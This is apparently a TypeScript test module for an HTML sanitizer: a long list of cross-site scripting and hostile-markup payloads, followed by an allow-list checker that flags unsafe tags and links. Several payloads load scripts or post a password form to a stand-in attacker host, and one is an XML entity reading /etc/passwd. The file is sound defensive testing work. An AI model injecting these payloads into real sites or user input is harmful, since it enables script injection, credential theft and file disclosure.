/** Markup that tries to run a script, load something or mislead visitors on other people's pages. */
export const HOSTILE_MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/x.webp" onerror="alert(1)" onload=alert(1)>',
  '<img/src="/art/x.webp"/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/art/../wps/session/logout">',
  '<img src="/art/%2e%2e/wps/session/logout">',
  '<img srcset="https://evil.example/x 1x" src="/art/x.webp">',
  '<img alt="`><script>alert(1)</script>" src="/art/x.webp">',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><script>alert(1)</script>">',
  '<noframes><style></noframes><script>alert(1)</script></style>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<textarea><img title="</textarea><script>alert(1)</script>">',
  '<title><a title="</title><script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">cover</p>',
  '<p class="secret" id="root" data-x="y" tabindex="1" autofocus>x</p>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<p/onpointerenter=alert(1)>x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://site.example/1">x</a>',
  '<a href="filesystem:https://site.example/1">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<a href="ftp://evil.example/">x</a>',
  '<a href="https://site.example@evil.example/">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="mailto:a@b.example?body=%0aBcc:all@b.example">x</a>',
  '<a href="tel:*21*0123#">x</a>',
  '<a href="#" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a target="_top" rel="opener" href="https://evil.example">x</a>',
  '<a download href="/x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><iframe><iframe><script>alert(1)</script></iframe></iframe></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>log in</button></form>',
  '<select><option><script>alert(1)</script></option></select>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1) src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<table background="javascript:alert(1)"><td background="https://evil.example/x">x</table>',
  '<td colspan="99999999" rowspan="1e9" onclick=alert(1)>x</td>',
  '<dialog open onclose=alert(1)><p>you have won</p></dialog>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<custom-element onconnected=alert(1)>x</custom-element>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><p>&xxe;</p>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<p "onmouseover=alert(1)">x</p>',
  '<p\u0000onclick=alert(1)>x</p>',
  '\u0000<script\u0000>alert(1)</script>',
  '<a href="https://ok.example/" onclick\u00a0=alert(1)>x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<h2 id="login"><input type=hidden accesskey=X onclick=alert(1)></h2>',
  `${'<p>'.repeat(5_000)}<script>alert(1)</script>`,
  `${'<ul><li>'.repeat(2_000)}<x>`,
  '<a href="'.repeat(200),
  '<'.repeat(2_000),
];

const TAGS = 'p|br|h2|h3|h4|ul|ol|li|strong|em|b|i|u|s|table|caption|thead|tbody|tfoot|tr|th|td|a|img';
const ATTRIBUTES = 'href|target|rel|src|alt|width|height|loading|colspan|rowspan|scope';
const TOKEN = new RegExp(`[^<>]+|</(?:${TAGS})>|<(?:${TAGS})((?: (?:${ATTRIBUTES})="[^"<>]*")*)(?: /)?>`, 'y');
const ADDRESS = / (href|src)="([^"]*)"/g;

/**
 * Returns what is harmful in sanitized markup; null when nothing is. It reads the text itself, token by token, so the
 * result does not depend on a browser's parser: angle brackets appear only in harmless tags.
 */
export function harmIn(markup: string): string | null {
  TOKEN.lastIndex = 0;
  while (TOKEN.lastIndex < markup.length) {
    const from = TOKEN.lastIndex;
    const token = TOKEN.exec(markup);
    if (token === null) return `what is this: ${markup.slice(from, from + 60)}`;
    for (const [, name = '', address = ''] of token[1]?.matchAll(ADDRESS) ?? []) {
      if (!isHarmless(name, address)) return `${name} leads to ${address}`;
    }
    if (token[1]?.includes('href="https:') && !token[1].includes('rel="noopener noreferrer"'))
      return 'the opener is seen';
  }
  return null;
}

function isHarmless(name: string, address: string): boolean {
  if (name === 'src') return /^\/art\/[\w./%-]+$/.test(address) && !/\.\.|%2e/i.test(address);
  return /^(?:https:\/\/[^@\\]+|mailto:[\w@.+-]+|tel:[\d+-]+|\/(?![/\\])[^\\\s]*|#.*)$/.test(address);
}
